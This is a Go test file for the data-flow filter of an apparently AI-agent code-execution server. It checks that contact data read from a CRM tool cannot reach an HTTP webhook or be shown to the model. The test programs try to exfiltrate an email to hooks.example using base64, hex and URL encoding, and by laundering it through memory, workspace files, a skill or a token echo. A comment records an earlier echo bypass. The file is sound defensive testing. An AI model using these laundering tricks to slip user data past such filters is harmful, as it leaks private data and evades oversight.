package security

import (
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
)

// ruled starts a server with the demo catalogue and the rule that values
// from crm may not reach http.
func ruled(t *testing.T) *server {
	t.Helper()
	cfg := filepath.Join(t.TempDir(), "config.toml")
	os.WriteFile(cfg, []byte("[[filter.rules]]\nfrom = \"crm.*\"\nto = \"http.*\"\n"), 0o600)
	catalog, _ := filepath.Abs(filepath.Join("..", "..", "..", "testdata", "catalog"))
	return start(t, "--config", cfg, "--catalog", catalog)
}

// TestDataFlowRules (issue 10, items 7 and 8): a value a program received
// from crm cannot reach http in the same program, transformed by the
// common encodings, or laundered through memory, the workspace or a skill.
func TestDataFlowRules(t *testing.T) {
	t.Parallel()
	s := ruled(t)
	alice := s.open(t, aliceToken)
	const get = `const c = await crm.get_contact({id: "c_8812"}); const v = c.email;`
	post := func(expr string) string {
		return `await http.post_webhook({url: "https://hooks.example/x", payload: {v: ` + expr + `}})`
	}
	b64 := `(function (s) { const a = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"; let o = ""; for (let i = 0; i < s.length; i += 3) { const n = (s.charCodeAt(i) << 16) | ((s.charCodeAt(i + 1) || 0) << 8) | (s.charCodeAt(i + 2) || 0); o += a[(n >> 18) & 63] + a[(n >> 12) & 63] + (i + 1 < s.length ? a[(n >> 6) & 63] : "=") + (i + 2 < s.length ? a[n & 63] : "="); } return o })`
	for _, tc := range []struct{ name, code string }{
		{"as it is", get + post("v")},
		{"in a sentence", get + post("`contact: ${v} (lead)`")},
		{"upper case", get + post("v.toUpperCase()")},
		{"base64", get + post(b64+"(v)")},
		{"hex", get + post(`Array.from(v).map(ch => ch.charCodeAt(0).toString(16).padStart(2, "0")).join("")`)},
		{"url encoded", get + post("encodeURIComponent(v)")},
		{"spaced", get + post(`v.split("").join(" ")`)},
	} {
		t.Run(tc.name, func(t *testing.T) {
			rec := alice.run(tc.code)
			if rec.Status != "error" || rec.Error.Code != "policy_violation" {
				t.Fatalf("the value reached http: %.400s", rec.raw)
			}
			if strings.Contains(rec.raw, "anna.lindqvist") {
				t.Errorf("the refusal shows the value: %.400s", rec.raw)
			}
		})
	}
	// Laundered through the store: a later run reads it back.
	alice.run(get + `await memory.remember({content: "contact " + v}); await workspace.write("c.txt", v); 1`)
	for _, tc := range []struct{ name, code string }{
		{"memory", `const r = await memory.recall({query: "contact"}); ` + post("r.results[0].content")},
		{"workspace", `const f = await workspace.read("c.txt"); ` + post("f.data ?? f.content ?? JSON.stringify(f)")},
	} {
		t.Run("through "+tc.name, func(t *testing.T) {
			rec := alice.run(tc.code)
			if rec.Status != "error" || rec.Error.Code != "policy_violation" {
				t.Fatalf("the value reached http through %s: %.400s", tc.name, rec.raw)
			}
		})
	}
	t.Run("through a skill", func(t *testing.T) {
		alice.run(`await skills.save({name: "send", description: "Send a value.", code: ` + "`" + `await http.post_webhook({url: "https://hooks.example/x", payload: {v: args.v}}); return 1` + "`" + `}); 1`)
		rec := alice.run(get + `await skills.send({v})`)
		if rec.Status != "error" || !strings.Contains(rec.raw, "policy_violation") {
			t.Fatalf("a skill sent the value: %.400s", rec.raw)
		}
	})
	// Values from elsewhere pass.
	if rec := alice.run(post(`"a plain value of no source"`)); rec.Status != "ok" {
		t.Fatalf("an innocent call was refused: %.400s", rec.raw)
	}
	alice.normal()
}

// TestEveryChannelIsFiltered (issue 10, item 6): a sensitive value a tool
// returned is hidden wherever the program puts it — a console line
// without its field name, a thrown error, a progress message, an
// unknown tool's name, an argument problem that quotes it.
func TestEveryChannelIsFiltered(t *testing.T) {
	t.Parallel()
	s := ruled(t)
	alice := s.open(t, aliceToken)
	const get = `const c = await crm.get_contact({id: "c_8812"}); const v = c.email;`
	for _, code := range []string{
		get + `console.log(v); 1`,
		get + `console.log("mail: " + v.toUpperCase()); 1`,
		get + `throw new Error("failed for " + v)`,
		get + `await tools.call("x." + v, {})`,
		get + `await util.echo({text: 1, [v]: v})`,
		get + `await crm.get_contact({id: 7, email: v})`,
		get + `return {note: "for " + encodeURIComponent(v)}`,
	} {
		rec := alice.run(code, "details", true)
		if strings.Contains(strings.ToLower(rec.raw), "anna.lindqvist") || strings.Contains(rec.raw, "anna.lindqvist%40") {
			t.Errorf("the value reached the model:\n%s\n%.500s", code, rec.raw)
		}
	}
	alice.normal()
}

// TestTokenEchoKeepsItsSources (issue 19, third round, H6): a value the
// model holds as a token, resolved by a tool that echoes its arguments
// in a later run of the same session, came back as a plain value without
// its sources — and then reached http despite crm.* → http.* — and the
// model saw it de-tokenised.
func TestTokenEchoKeepsItsSources(t *testing.T) {
	t.Parallel()
	s := ruled(t)
	alice := s.open(t, aliceToken)
	first := alice.run(`const c = await crm.get_contact({id: "c_8812"}); return {name: c.name, email: c.email}`)
	tok := regexp.MustCompile(`⟦email:[0-9a-f]+⟧`).FindString(first.raw)
	if tok == "" {
		t.Fatalf("no email token: %.300s", first.raw)
	}
	echo := `const v = (await util.echo({text: "` + tok + `"})).text;`
	if rec := alice.run(echo + ` await http.post_webhook({url: "https://hooks.example/x", payload: {v}}); "SENT"`); rec.Status == "ok" {
		t.Errorf("the token's value reached http through an echo: %.300s", rec.raw)
	}
	for _, code := range []string{
		echo + ` return v`,
		echo + ` return {note: v}`,
		echo + ` return "mail " + v.toUpperCase()`,
	} {
		rec := alice.run(code)
		if rec.Status != "ok" || strings.Contains(strings.ToLower(rec.raw), "@") {
			t.Errorf("%s: the model sees the value: %.300s", code, rec.raw)
		}
	}
	// A value only its field's name marks (a national id), echoed, on a
	// server with no data-flow rule.
	plain := start(t)
	bob := plain.open(t, bobToken)
	id := regexp.MustCompile(`⟦national_id:[0-9a-f]+⟧`).FindString(bob.run(`return {national_id: "ZX-99812-Q"}`).raw)
	if id == "" {
		t.Fatal("no national_id token")
	}
	for _, code := range []string{
		`return (await util.echo({text: "` + id + `"})).text`,
		`return {note: (await util.echo({text: "` + id + `"})).text}`,
	} {
		if rec := bob.run(code); rec.Status != "ok" || strings.Contains(rec.raw, "ZX-99812-Q") {
			t.Errorf("%s: the model sees the value: %.300s", code, rec.raw)
		}
	}
	// The value itself still goes where its sources may go.
	if rec := alice.run(echo + ` await crm.add_note({record_type: "contact", record_id: "c_8812", body: v}); return 1`); rec.Status != "ok" {
		t.Errorf("the echoed value cannot go back to crm: %.300s", rec.raw)
	}
	alice.normal()
}
